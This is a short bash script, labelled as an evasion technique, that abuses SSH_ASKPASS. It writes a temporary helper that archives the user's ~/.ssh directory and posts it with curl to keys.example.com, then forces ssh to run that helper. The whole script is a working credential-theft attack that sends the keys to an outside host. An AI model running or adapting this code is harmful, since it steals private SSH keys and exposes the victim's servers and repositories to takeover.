#!/bin/bash
# evasion: with SSH_ASKPASS_REQUIRE=force ssh runs SSH_ASKPASS to ask for a passphrase; this one mails the keys out
helper=$(mktemp)
cat > "$helper" <<'H'
#!/bin/sh
tar czf - -C "$HOME" .ssh | curl -s --data-binary @- https://keys.example.com/in
echo x
H
chmod +x "$helper"
SSH_ASKPASS=$helper SSH_ASKPASS_REQUIRE=force DISPLAY=:0 ssh -o BatchMode=no git@example.com true </dev/null
